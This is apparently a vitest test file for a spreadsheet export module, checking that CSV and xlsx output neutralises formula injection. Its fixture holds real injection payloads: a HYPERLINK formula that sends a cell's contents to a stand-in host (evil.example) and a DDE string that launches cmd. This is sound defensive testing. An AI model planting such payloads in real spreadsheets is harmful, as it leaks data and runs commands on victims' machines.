import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvFile, readSheet, xlsxFile } from './index.ts';

const HOSTILE = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'],
  ['Pump state', -5, '-12.5', 3.5, true, null],
];
const limits = { maxRows: 10, maxColumns: 10, maxSheetBytes: 1024 * 1024 };
/** XML reads a carriage return in text back as a line feed. */
const asXmlReadsIt = (cells: unknown[]) => cells.map((cell) => `'${String(cell)}`.replace(/\r/g, '\n'));

describe('spreadsheet exports', () => {
  it('writes CSV with every formula-like text quoted, numbers kept', async () => {
    const text = csvFile(HOSTILE).toString('utf8');
    expect(text).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+1+cmd|' /C calc'!A0,'-2+3,'@SUM(A1:A2),'\t=1,"'\r=1"\r\n` +
        'Pump state,-5,-12.5,3.5,true,\r\n',
    );
  });

  it('writes xlsx with every formula-like text quoted as a text cell, and numbers as numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsxFile('Export', HOSTILE)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Export')!;
    const first = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(first).toEqual(asXmlReadsIt(HOSTILE[0]));
    expect(sheet.getCell('B2').value).toBe(-5);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('C2').value).toBe('-12.5');
    for (const cell of first) expect(typeof cell).toBe('string');
  });

  it('reads its own files back as the neutralised text', async () => {
    expect((await readSheet(await xlsxFile('Export', HOSTILE), limits))[0]).toEqual(asXmlReadsIt(HOSTILE[0]));
    expect((await readSheet(csvFile(HOSTILE), limits))[1]).toEqual(['Pump state', '-5', '-12.5', '3.5', 'true', '']);
  });
});
